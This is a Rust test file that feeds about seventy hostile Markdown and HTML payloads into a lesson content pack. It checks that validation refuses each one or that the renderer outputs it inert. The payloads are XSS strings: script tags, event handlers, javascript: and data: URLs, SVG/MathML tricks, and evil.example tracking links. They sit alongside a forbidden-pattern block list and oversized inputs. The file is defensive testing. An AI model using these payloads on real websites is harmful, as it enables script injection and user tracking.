//! Hostile lesson Markdown (issue #19): every payload is either refused by validation with its
//! `path:line`, or rendered inert by `render_markdown` — no script, event handler, style, URL or
//! embedded object survives. Each payload is written into a real lesson of a copy of the shipped
//! pack and the pack is validated, as an install would. Prints the tally docs/security.md
//! records (`cargo test -p crossway-content --test hostile -- --nocapture`).

use std::fs;
use std::path::{Path, PathBuf};

use crossway_content::{load_pack, render_markdown, DiagKind};

fn shipped() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content-packs/cbec-core")
}

fn copy_dir(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for e in fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let target = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &target);
        } else {
            fs::copy(e.path(), target).unwrap();
        }
    }
}

/// What must never come out of the renderer, lower-cased.
const FORBIDDEN: &[&str] = &[
    "<script", "<iframe", "<object", "<embed", "<form", "<input", "<img", "<svg", "<math", "<style", "<link", "<meta",
    "<base", "<video", "<audio", "<source", "<frame", "<button", "<textarea", "<select", "<a ", "<a>", "href", "src=",
    "srcdoc", "style=", "javascript:", "vbscript:", "data:text", "data:image", "evil.example", "onerror", "onload",
    "onclick", "onmouseover", "onfocus", "ontoggle", "onanimation", "onbegin", "formaction", "xlink", "@import",
    "expression(",
];

fn payloads() -> Vec<String> {
    let mut p: Vec<String> = [
        // Raw HTML and event handlers.
        "<script>window.__pwned=1</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=window.__pwned=1>",
        "<img src=\"javascript:window.__pwned=1\">",
        "<svg onload=window.__pwned=1>",
        "<svg><script>window.__pwned=1</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x\">",
        "<details open ontoggle=window.__pwned=1>",
        "<div style=\"background:url(https://evil.example)\">x</div>",
        "<p style=\"behavior:url(x.htc);width:expression(alert(1))\">x</p>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example\"><input name=q><button formaction=javascript:alert(1)>go</button></form>",
        "<video><source onerror=window.__pwned=1></video>",
        "<audio src=x onerror=window.__pwned=1>",
        "<body onload=window.__pwned=1>",
        "<a href=\"javascript:window.__pwned=1\">click</a>",
        "<a href=\"//evil.example\">x</a>",
        "<div onmouseover=\"window.__pwned=1\">hover</div>",
        "<input autofocus onfocus=window.__pwned=1>",
        "<textarea onfocus=window.__pwned=1 autofocus>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
        "<!--><script>window.__pwned=1</script>-->",
        "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
        "<frameset onload=window.__pwned=1>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<select onfocus=window.__pwned=1 autofocus>",
        // Markdown links and images with dangerous URLs: inline, reference-style, autolinks.
        "[click](javascript:window.__pwned=1)",
        "[click](JaVaScRiPt:window.__pwned=1)",
        "[click](  javascript:window.__pwned=1  )",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
        "[click](&#106;avascript:window.__pwned=1)",
        "[click](&#x6A;&#x61;vascript:window.__pwned=1)",
        "[click](java%0ascript:window.__pwned=1)",
        "[click](javascript&colon;window.__pwned=1)",
        "[home](https://evil.example/track)",
        "[rel](../../../etc/passwd)",
        "[click][ref]\n\n[ref]: javascript:window.__pwned=1",
        "[click][ref]\n\n[ref]: https://evil.example \"title\"",
        "<javascript:window.__pwned=1>",
        "<https://evil.example/auto>",
        "<mailto:a@evil.example>",
        "![pixel](https://evil.example/p.gif)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x][img]\n\n[img]: https://evil.example/i.png",
        "[![x](https://evil.example/i.png)](javascript:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](javascript:alert(1) \"title\")",
        // Entity and escape tricks outside links.
        "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
        "\\<script\\>window.__pwned=1\\</script\\>",
        "`<script>window.__pwned=1</script>`",
        "```html\n<script>window.__pwned=1</script>\n```",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    // Very long and deeply nested Markdown.
    p.push("> ".repeat(2_000) + "deep quote");
    p.push((0..1_000).map(|i| format!("{}- item\n", "  ".repeat(i))).collect());
    p.push("*".repeat(50_000) + "x" + &"*".repeat(50_000));
    p.push("[".repeat(100_000) + "x" + &"](javascript:alert(1))".repeat(2_000));
    p.push("a".repeat(1_000_000));
    p
}

#[test]
fn hostile_markdown_is_refused_at_its_line_or_rendered_inert() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(&shipped(), dir.path());
    let file = "kps/marketing.acos.md";
    let original = fs::read_to_string(dir.path().join(file)).unwrap();
    let marker = "::: lesson en\n";
    let at = original.find(marker).unwrap() + marker.len();
    let line = original[..at].lines().count() + 1;
    let payloads = payloads();
    let (mut refused, mut inert) = (0, 0);
    for p in &payloads {
        let text = format!("{}{p}\n\n{}", &original[..at], &original[at..]);
        fs::write(dir.path().join(file), &text).unwrap();
        let outcome = load_pack(dir.path());
        let ours: Vec<_> = outcome.diagnostics.iter().filter(|d| d.path.ends_with(file)).collect();
        let short: String = p.chars().take(60).collect();
        if !ours.is_empty() {
            // Refused: at the payload's line (the only problem in the file), as unsafe Markdown.
            assert!(
                ours.iter().all(|d| d.line >= line && d.kind == DiagKind::UnsafeMarkdown || d.kind == DiagKind::Formatting),
                "{short:?}: {ours:?}"
            );
            refused += 1;
        } else {
            assert!(outcome.diagnostics.is_empty(), "{short:?}: {:?}", outcome.diagnostics);
            inert += 1;
        }
        // Whether refused or not, what the renderer makes of it is inert: its tags (text is
        // escaped, so every `<` in the output opens a tag) hold nothing forbidden. A payload's
        // words may stay as text ("javascript:" from an autolink is shown, not followed).
        let html = render_markdown(p).to_lowercase();
        let tags: Vec<String> =
            html.split('<').skip(1).map(|s| format!("<{}>", s.split('>').next().unwrap_or_default())).collect();
        let tags = tags.join(" ");
        for bad in FORBIDDEN {
            assert!(!tags.contains(bad), "payload {short:?} left {bad:?} in the HTML tags: {tags:.300}");
        }
    }
    println!("{} hostile payloads: {refused} refused by validation at their line, {inert} accepted and rendered inert, 0 ran", payloads.len());
    assert!(payloads.len() >= 60);
}
